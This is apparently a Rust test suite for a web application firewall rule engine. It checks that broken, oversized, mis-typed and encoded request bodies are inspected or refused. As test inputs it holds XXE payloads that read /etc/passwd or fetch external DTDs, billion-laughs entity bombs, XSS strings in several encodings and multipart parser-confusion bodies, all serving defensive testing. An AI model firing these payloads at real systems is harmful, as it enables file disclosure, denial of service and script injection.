//! Input that is broken, huge or a lie: each is decided within its bounds, and rules see that it was.

mod support;

use std::sync::LazyLock;

use seclang::{Mode, NoDataFiles, RequestHead, RuleSet, Source, Transaction, limits};
use support::{decide, get, ours, post_bytes};

/// An attack in any argument, file name or text; then what could not be read, and what could not be looked at.
const RULES: &str = r#"
SecRule ARGS|ARGS_NAMES|FILES|REQUEST_BODY|XML:/*|XML://@* "@rx evil" "id:1,phase:2,deny,status:403,t:none,t:urlDecodeUni,t:removeNulls"
SecRule REQBODY_ERROR "!@eq 0" "id:2,phase:2,deny,status:400,msg:'%{REQBODY_ERROR_MSG}'"
SecRule MULTIPART_STRICT_ERROR|MULTIPART_UNMATCHED_BOUNDARY "!@eq 0" "id:3,phase:2,deny,status:400"
SecRule INSPECTION_ERROR "@eq 1" "id:4,phase:2,deny,status:413,msg:'%{INSPECTION_ERROR_MSG}'"
SecRule URLENCODED_ERROR "@eq 1" "id:5,phase:2,deny,status:400"
SecRule REQBODY_PROCESSOR "!@rx ^(?:URLENCODED|MULTIPART|JSON|XML)$" "id:6,phase:1,pass,nolog,ctl:forceRequestBodyVariable=On"
"#;

const FORM: &str = "application/x-www-form-urlencoded";
const MULTIPART: &str = "multipart/form-data; boundary=b";

/// The rule that refused a body of this type, and its message.
fn refusal(uri: &str, media: &str, body: &[u8]) -> Option<(u64, String)> {
    refusal_by(RULES, uri, media, body)
}

fn refusal_by(rules: &str, uri: &str, media: &str, body: &[u8]) -> Option<(u64, String)> {
    let rules = RuleSet::compile(&[Source { name: "test.conf", text: rules }], &NoDataFiles).expect("rules");
    let mut transaction = Transaction::new(&rules, Mode::Block);
    let headers: &[(&str, &[u8])] = &[("Content-Type", media.as_bytes())];
    let head = RequestHead { method: "POST", uri, protocol: "HTTP/1.1", headers, ..RequestHead::default() };
    let mut outcome = transaction.request_head(&head);
    if outcome.interruption().is_none() {
        outcome = transaction.request_body(body);
    }
    outcome.interruption().map(|refusal| (refusal.rule_id, refusal.reason.clone()))
}

fn rule(media: &str, body: &str) -> Option<u64> {
    refusal("/", media, body.as_bytes()).map(|(rule, _)| rule)
}

#[test]
fn escapes_that_end_too_early_or_overlap_are_decoded_as_far_as_they_go() {
    assert_eq!(rule(FORM, "a=%65%76%69%6c"), Some(1));
    assert_eq!(rule(FORM, "a=%2565vil"), Some(1), "twice encoded");
    assert_eq!(rule(FORM, "a=%%36%35vil"), Some(1), "an escape that an escape makes");
    assert_eq!(rule(FORM, "a=%u0065vil"), Some(1));
    for broken in ["a=%", "a=%4", "a=%zz", "%=1", "a=1%&b"] {
        assert_eq!(rule(FORM, broken), Some(5), "{broken}");
    }
    assert_eq!(rule(FORM, "a=100%25"), None);
}

#[test]
fn encodings_that_are_mixed_hide_nothing() {
    for form in ["a=%65%u0076il", "a=e%25%37%36il", "a=e%00%76il", "%65%76il=1", "a=%u0065%2576il"] {
        assert_eq!(rule(FORM, form), Some(1), "{form}");
    }
    for json in
        [r#"{"a":"\u0065%76il"}"#, r#"{"a":"%u0065\u0076il"}"#, r#"{"\u0065vil":1}"#, r#"["e%00v\u0069l"]"#]
    {
        assert_eq!(rule("application/json", json), Some(1), "{json}");
    }
    for xml in ["<a>&#x65;%76il</a>", "<a b='&#101;v%69l'/>", "<a><![CDATA[%65vil]]></a>"] {
        assert_eq!(rule("text/xml", xml), Some(1), "{xml}");
    }
    let part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\ne%76%u0069l\r\n--b--\r\n";
    assert_eq!(rule(MULTIPART, part), Some(1));
}

#[test]
fn a_nul_hides_nothing() {
    assert_eq!(rule(FORM, "a=e%00vil"), Some(1));
    assert_eq!(refusal("/", FORM, b"a=ev\0il").map(|(rule, _)| rule), Some(1));
    assert_eq!(rule("application/json", "{\"a\":\"e\\u0000vil\"}"), Some(1));
}

#[test]
fn arguments_beyond_the_bound_are_not_passed_over_in_silence() {
    let many = |last: &str| format!("{}{last}", "a=1&".repeat(10_000));
    // Twice encoded, so that the body as a whole does not give it away.
    let (found, message) = refusal("/", FORM, many("b=e%2576il").as_bytes()).expect("a refusal");
    assert!(found == 4 && message.contains("arguments"), "{found} {message}");
    assert_eq!(rule(FORM, &format!("b=evil&{}", many(""))), Some(1));
    let (found, _) = refusal(&format!("/?{}", many("")), FORM, b"").expect("a refusal");
    assert_eq!(found, 4);
}

#[test]
fn json_is_read_to_its_depth_and_no_further() {
    let nested = |levels: usize| format!("{}\"evil\"{}", "[".repeat(levels), "]".repeat(levels));
    assert_eq!(rule("application/json", &nested(limits::JSON_DEPTH_MAX)), Some(1));
    let (found, message) = refusal("/", "application/json", nested(1_000).as_bytes()).expect("a refusal");
    assert!(found == 2 && message.contains("deep"), "{found} {message}");
    for broken in ["{\"a\":1", "{\"a\":1}x", "{'a':1}", "", "\u{feff}["] {
        let expected = if broken.is_empty() { None } else { Some(2) };
        assert_eq!(rule("application/json", broken), expected, "{broken}");
    }
    assert_eq!(
        rule("application/json", "{\"a\":1,\"a\":\"evil\"}"),
        Some(1),
        "each of two members of one name"
    );
}

#[test]
fn xml_expands_no_entity_and_fetches_nothing() {
    let bomb = "<!DOCTYPE a [<!ENTITY e \"evil\"><!ENTITY f \"&e;&e;&e;\">]><a>&f;</a>";
    assert_eq!(rule("text/xml", bomb), Some(2));
    let external = "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>";
    assert_eq!(rule("text/xml", external), Some(2));
    assert_eq!(rule("text/xml", "<a>&e;vil</a>"), None, "an entity that nobody declared stays as it is");
    assert_eq!(rule("text/xml", "<a>&#101;vil</a>"), Some(1));
    assert_eq!(rule("text/xml", "<a b='evil'/>"), Some(1));
    assert_eq!(rule("text/xml", &"<a>".repeat(1_000)), Some(2));
}

#[test]
fn entities_are_never_expanded_and_nothing_is_fetched() {
    let laughs = (1..10).fold(String::from("<!ENTITY l0 \"evil\">"), |text, level| {
        let before = format!("&l{};", level - 1);
        format!("{text}<!ENTITY l{level} \"{}\">", before.repeat(10))
    });
    for document in [
        format!("<!DOCTYPE lolz [{laughs}]><lolz>&l9;</lolz>"),
        "<!DOCTYPE a SYSTEM \"http://192.0.2.1/evil.dtd\"><a/>".to_owned(),
        "<!DOCTYPE a PUBLIC \"-//X\" \"http://192.0.2.1/evil.dtd\"><a/>".to_owned(),
        "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://192.0.2.1/evil.dtd\">%p;]><a/>".to_owned(),
        "<?xml version='1.0'?><!-- --><!DOCTYPE a [<!ATTLIST a b CDATA 'evil'>]><a/>".to_owned(),
        "<a><!DOCTYPE b><b/></a>".to_owned(),
    ] {
        let (found, message) = refusal("/", "text/xml", document.as_bytes()).expect("a refusal");
        // An error, and not the text: what is not expanded is not there.
        assert!(found == 2 && message.contains("document type"), "{found} {message} {document:.80}");
    }
    let included =
        "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></a>";
    assert_eq!(rule("text/xml", included), None, "an inclusion is an element like any other");
    for broken in ["<a>&#xffffffffff;</a>", "<a>&#;&#x;&;</a>", "<a>&amp;&bogus;</a>"] {
        assert_eq!(rule("text/xml", broken), None, "{broken}");
    }
}

#[test]
fn rules_see_what_is_odd_about_a_multipart_body() {
    let field = |headers: &str| format!("--b\r\n{headers}\r\n\r\n1\r\n--b--\r\n");
    let named = "Content-Disposition: form-data; name=\"a\"";
    let plain = field(named);
    for (flag, media, body) in [
        ("MULTIPART_BOUNDARY_QUOTED", "multipart/form-data; boundary=\"b\"", plain.clone()),
        ("MULTIPART_BOUNDARY_WHITESPACE", "multipart/form-data; boundary = b", plain.clone()),
        ("MULTIPART_DATA_BEFORE", MULTIPART, format!("x\r\n{plain}")),
        ("MULTIPART_DATA_AFTER", MULTIPART, format!("{plain}x")),
        ("MULTIPART_DATA_AFTER", MULTIPART, format!("{plain}{plain}")),
        ("MULTIPART_HEADER_FOLDING", MULTIPART, field("Content-Disposition: form-data;\r\n name=\"a\"")),
        ("MULTIPART_INVALID_HEADER_FOLDING", MULTIPART, field(&format!(" x\r\n{named}"))),
        ("MULTIPART_LF_LINE", MULTIPART, plain.replace("\r\n", "\n")),
        ("MULTIPART_CRLF_LF_LINES", MULTIPART, plain.replacen("\r\n", "\n", 1)),
        (
            "MULTIPART_MISSING_SEMICOLON",
            MULTIPART,
            field("Content-Disposition: form-data; name=\"a\" x=\"b\""),
        ),
        ("MULTIPART_INVALID_QUOTING", MULTIPART, field("Content-Disposition: form-data; name='a'")),
        ("MULTIPART_INVALID_QUOTING", MULTIPART, field("Content-Disposition: form-data; name=\"a")),
        ("MULTIPART_INVALID_PART", MULTIPART, field("Content-Type: text/plain")),
        ("MULTIPART_INVALID_PART", MULTIPART, field("Content-Disposition: attachment; name=\"a\"")),
        ("MULTIPART_INVALID_PART", MULTIPART, field(&format!("{named}; name=\"b\""))),
        ("MULTIPART_INVALID_PART", MULTIPART, field(&format!("{named}\r\n{named}; filename=\"x\""))),
        ("MULTIPART_INVALID_PART", MULTIPART, field(&format!("no header\r\n{named}"))),
        ("MULTIPART_UNMATCHED_BOUNDARY", MULTIPART, format!("--b\r\n{named}\r\n\r\n--bb\r\n--b--\r\n")),
        ("REQBODY_ERROR", "multipart/form-data; boundary=b; boundary=c", plain.clone()),
        ("REQBODY_ERROR", "multipart/form-data; boundary=", plain.clone()),
        ("REQBODY_ERROR", "multipart/form-data", plain.clone()),
        ("REQBODY_ERROR", &format!("multipart/form-data; boundary={}", "b".repeat(71)), plain.clone()),
        ("REQBODY_ERROR", MULTIPART, plain.replace("--b--", "--b-")),
        ("REQBODY_ERROR", MULTIPART, field(&format!("Content-Type: text/plain\r\n--b\r\n{named}"))),
        ("REQBODY_ERROR", MULTIPART, field(&format!("X: y\r\n{named}\r\n{}", "Y: z\r\n".repeat(40)))),
        ("REQBODY_ERROR", MULTIPART, format!("--b\r\n{named}\r\n\r\n1\r\n").repeat(300) + "--b--\r\n"),
    ] {
        let seen = format!("SecRule {flag} \"!@eq 0\" \"id:1,phase:2,deny,status:400\"");
        assert!(refusal_by(&seen, "/", media, body.as_bytes()).is_some(), "{flag} {media} {body:.120}");
        if !matches!(flag, "REQBODY_ERROR" | "MULTIPART_UNMATCHED_BOUNDARY" | "MULTIPART_CRLF_LF_LINES") {
            let strict = "SecRule MULTIPART_STRICT_ERROR \"!@eq 0\" \"id:1,phase:2,deny,status:400\"";
            assert!(refusal_by(strict, "/", media, body.as_bytes()).is_some(), "{flag} is no strict error");
        }
    }
}

#[test]
fn a_field_that_another_parser_takes_for_a_file_is_not_passed_over() {
    // Whoever begins a part at the boundary reads a field; whoever does not, a file, whose content no rule sees.
    let file = "--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"x\"";
    let field = "--b\r\nContent-Disposition: form-data; name=\"z\"\r\n\r\nevil\r\n--b--\r\n";
    assert_eq!(rule(MULTIPART, &format!("{file}\r\n{field}")), Some(2));
    assert_eq!(rule(MULTIPART, &format!("{file}\r\n\r\n{field}")), Some(1));
}

#[test]
fn a_multipart_body_that_two_parsers_may_read_in_two_ways_is_refused() {
    let part = "Content-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n";
    assert_eq!(rule(MULTIPART, &format!("--b\r\n{part}--b--\r\n")), None);
    let without_boundary = "multipart/form-data";
    for (media, body) in [
        (without_boundary, format!("--b\r\n{part}--b--\r\n")),
        ("multipart/form-data; boundary=b; boundary=c", format!("--b\r\n{part}--b--\r\n")),
        (MULTIPART, format!("--c\r\n{part}--c--\r\n")),
        (MULTIPART, format!("--b\r\n{part}")),
        (MULTIPART, "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n".to_owned()),
        (MULTIPART, format!("--b\r\n{part}--b--\r\nmore")),
        (MULTIPART, format!("--b\r\n{part}--bb\r\n{part}--b--\r\n")),
        (MULTIPART, "--b\r\nContent-Type: text/plain\r\n\r\n1\r\n--b--\r\n".to_owned()),
        (MULTIPART, format!("--b\n{}--b--\n", part.replace("\r\n", "\n"))),
    ] {
        assert!(matches!(rule(media, &body), Some(2 | 3)), "{media} {body:?} {:?}", rule(media, &body));
    }
    let file = "Content-Disposition: form-data; name=\"a\"; filename=\"evil.txt\"\r\n\r\n1\r\n";
    assert_eq!(rule(MULTIPART, &format!("--b\r\n{file}--b--\r\n")), Some(1));
}

#[test]
fn a_body_whose_type_lies_is_looked_at_or_refused() {
    assert_eq!(rule("application/json", "a=evil"), Some(2));
    assert_eq!(rule("text/xml", "{\"a\":1}"), Some(2));
    assert_eq!(rule("text/xml", "{\"a\":\"evil\"}"), Some(1));
    assert_eq!(rule(MULTIPART, "a=evil"), Some(2));
    assert_eq!(rule("text/plain", "a=evil"), Some(1));
    assert_eq!(rule("", "{\"a\":\"evil\"}"), Some(1));
    assert_eq!(rule(FORM, "{\"a\":\"evil\"}"), Some(1));
    assert_eq!(rule(FORM, "<a>evil</a>"), Some(1));
    assert_eq!(rule("application/json", "<a>evil</a>"), Some(2));
    assert_eq!(rule("text/xml", "a=evil"), Some(1));
    let part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nevil\r\n--b--\r\n";
    for media in [FORM, "text/plain", ""] {
        assert_eq!(rule(media, part), Some(1), "{media}");
    }
    for media in ["application/json", "text/xml"] {
        assert!(matches!(rule(media, part), Some(1 | 2)), "{media}");
    }
}

/// The first bytes of a body that gzip has written, with no header that says so.
const GZIP: &[u8] = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x4b\x2d\xcb\xcc\x01\x00";

#[test]
fn compressed_bytes_that_nobody_declared_are_no_arguments() {
    for media in ["application/json", MULTIPART] {
        assert_eq!(refusal("/", media, GZIP).map(|(rule, _)| rule), Some(2), "{media}");
    }
    assert_eq!(refusal("/", "text/xml", GZIP).map(|(rule, _)| rule), Some(2));
    // As a form they are one argument, which is looked at as it is.
    let binary = "SecRule ARGS_NAMES \"@validateByteRange 32-126\" \"id:1,phase:2,deny,status:400\"";
    assert!(refusal_by(binary, "/", FORM, GZIP).is_some());
}

#[test]
fn what_is_too_much_work_is_not_passed_over_in_silence() {
    // SQL that never stops folding.
    let sql = "SecRule ARGS \"@detectSQLi\" \"id:1,phase:2,deny,status:403\"\n\
               SecRule INSPECTION_ERROR \"@eq 1\" \"id:2,phase:2,deny,status:413,msg:'%{INSPECTION_ERROR_MSG}'\"";
    let body = format!("a={}", "#".repeat(128 * 1024));
    let (found, message) = refusal_by(sql, "/", FORM, body.as_bytes()).expect("a refusal");
    assert!(found == 2 && message.contains("work"), "{found} {message}");
    // A great many rules, each of which looks at every byte.
    let mut many = String::new();
    for id in 0..2_000 {
        many.push_str(&format!("SecRule ARGS \"@rx a{id}$\" \"id:{},phase:2,pass,nolog,t:none\"\n", id + 10));
    }
    many.push_str("SecRule ARGS \"@rx evil$\" \"id:1,phase:2,deny,status:403,t:none\"\n");
    many.push_str(
        "SecRule INSPECTION_ERROR \"@eq 1\" \"id:2,phase:2,deny,status:413,msg:'%{INSPECTION_ERROR_MSG}'\"\n",
    );
    let numbers: String = (0..2_000).map(|number| format!("a{number} ")).collect();
    let body = format!("a={}&b=evil", numbers.repeat(10));
    let (found, message) = refusal_by(&many, "/", FORM, body.as_bytes()).expect("a refusal");
    assert!(found == 2 && message.contains("work"), "{found} {message}");
}

static OURS: LazyLock<RuleSet> = LazyLock::new(ours);

/// What our rules say of a body, sent where the shop's own site may take it.
fn our_verdict(media: &str, body: &[u8]) -> (Option<u16>, Vec<u64>) {
    decide(&OURS, &post_bytes("/contact", media, body))
}

#[test]
fn our_rules_refuse_what_cannot_be_read_or_inspected() {
    let many: String = "a=1&".repeat(10_000);
    let deep = format!("{}1{}", "[".repeat(1_000), "]".repeat(1_000));
    let long = format!("a={}", "1".repeat(limits::BODY_BYTES_MAX));
    let part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n";
    let laughs = "<!DOCTYPE a [<!ENTITY e \"lol\"><!ENTITY f \"&e;&e;\">]><a>&f;</a>";
    let json = "application/json";
    for (media, body) in [
        (FORM, many.as_bytes()),
        (json, deep.as_bytes()),
        (FORM, long.as_bytes()),
        (json, b"{\"a\":".as_slice()),
        (json, b"a=1"),
        (json, GZIP),
        (FORM, GZIP),
        (MULTIPART, GZIP),
        ("application/gzip", GZIP),
        ("text/xml", laughs.as_bytes()),
        ("application/xml", b"<a/>"),
        ("text/plain", b"a=1"),
        ("", b"a=1"),
        (MULTIPART, part.as_bytes()),
        (MULTIPART, b"--c\r\n\r\n--c--\r\n"),
        ("multipart/form-data", format!("{part}--b--\r\n").as_bytes()),
        ("multipart/form-data; boundary=b; boundary=c", format!("{part}--b--\r\n").as_bytes()),
        (MULTIPART, format!("{part}--b--\r\n{part}--b--\r\n").as_bytes()),
        (FORM, b"a=\xc0\xaf"),
        (FORM, b"a=1%00"),
        (FORM, b"a=1\0"),
        (json, b"{\"a\":\"\\u0000\"}"),
        (json, b"\xff\xfe{\x00}\x00"),
        (json, b"{\"a\":\"\xff\"}"),
        ("application/json; charset=utf-16", b"{}"),
        ("application/json; charset=utf-7", b"{}"),
    ] {
        let (status, rules) = our_verdict(media, body);
        assert!(status.is_some(), "{media} {:.60} {rules:?}", body.escape_ascii().to_string());
    }
    let (status, _) = decide(&OURS, &get(&format!("/?{many}")));
    assert!(status.is_some(), "as many arguments in a query");
}

#[test]
fn our_rules_find_an_attack_however_it_is_wrapped() {
    let script = "<script>alert(1)</script>";
    let percent: String = script.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let twice = percent.replace('%', "%25");
    let percent_u: String = script.bytes().map(|byte| format!("%u{byte:04x}")).collect();
    let json_escapes: String = script.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
    let entities: String = script.bytes().map(|byte| format!("&#x{byte:x};")).collect();
    let field = |value: &str| {
        format!("--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{value}\r\n--b--\r\n")
    };
    let json = "application/json";
    for (media, body) in [
        (FORM, format!("a={percent}")),
        (FORM, format!("a={twice}")),
        (FORM, format!("a={percent_u}")),
        (FORM, format!("a={json_escapes}")),
        (FORM, format!("a={}", entities.replace('&', "%26").replace('#', "%23").replace(';', "%3b"))),
        (FORM, format!("{percent}=1")),
        (FORM, format!("a=1&a=%{percent}")),
        (json, format!("{{\"a\":\"{script}\"}}")),
        (json, format!("{{\"a\":\"{json_escapes}\"}}")),
        (json, format!("{{\"a\":\"{percent}\"}}")),
        (json, format!("{{\"a\":\"{entities}\"}}")),
        (json, format!("{{\"{json_escapes}\":1}}")),
        (json, format!("{{\"a\":1,\"a\":\"{script}\"}}")),
        (json, format!("[[[[[\"{script}\"]]]]]")),
        (MULTIPART, field(script)),
        (MULTIPART, field(&percent)),
        (MULTIPART, field(&entities)),
    ] {
        let (status, rules) = our_verdict(media, body.as_bytes());
        assert!(status.is_some(), "{media} {body:.100} {rules:?}");
    }
}

#[test]
fn a_body_beyond_the_bound_is_an_error() {
    let long = format!("a={}", "1".repeat(limits::BODY_BYTES_MAX));
    assert_eq!(rule(FORM, &long), Some(2));
}
